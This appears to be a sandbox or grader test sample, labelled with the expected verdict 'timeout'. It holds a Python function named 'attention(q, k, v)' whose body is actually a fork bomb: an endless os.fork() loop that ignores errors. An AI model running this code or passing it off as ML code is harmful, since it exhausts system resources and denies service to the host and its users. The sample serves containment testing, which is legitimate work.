# verdict: timeout
"""Forks, and so does every child."""

import os


def attention(q, k, v):
    while True:
        try:
            os.fork()
        except OSError:
            pass
